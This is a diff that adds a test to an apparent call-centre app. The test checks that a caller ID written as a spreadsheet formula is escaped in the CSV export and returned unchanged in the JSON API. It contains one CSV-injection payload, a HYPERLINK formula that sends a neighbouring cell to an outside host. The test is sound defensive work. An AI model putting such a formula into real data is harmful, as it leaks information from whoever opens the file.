@@ -312,3 +312,18 @@ def test_a_page_after_the_first_starts_from_its_place_in_the_index(db: Engine) -
         conn.rollback()
     listed = [(r["started_at"], r["call_sid"]) for r in first + second]
     assert listed == sorted(listed, reverse=True) and len(set(listed)) == 102
+
+
+def test_a_caller_id_that_reads_as_a_formula_is_text_in_the_csv(
+    client: TestClient, phone: Phone, db: Engine
+) -> None:
+    """A caller ID is whatever the calling network says (a SIP trunk, a spoofer): one made to
+    look like a spreadsheet formula stays text in the CSV an agent opens in Excel."""
+    formula = '=HYPERLINK("//x.io/"&A1)'  # a click sends the cell beside it away
+    phone.call(ScriptedParty([Press("1"), Press("3"), Press("2"), Press("1")]), from_number=formula)
+    agent = make_user(db, "alice", "agent", "+15005559999")
+    assert client.post("/api/agents/next", headers=bearer(agent)).status_code == 200
+    [row] = csv.DictReader(io.StringIO(get(client, agent, "/api/calls.csv")))
+    assert row["caller"] == "'" + formula  # Excel shows it, without the quote, as text
+    [listed] = get(client, agent, "/api/calls")["calls"]
+    assert listed["caller"] == formula  # the JSON as it came
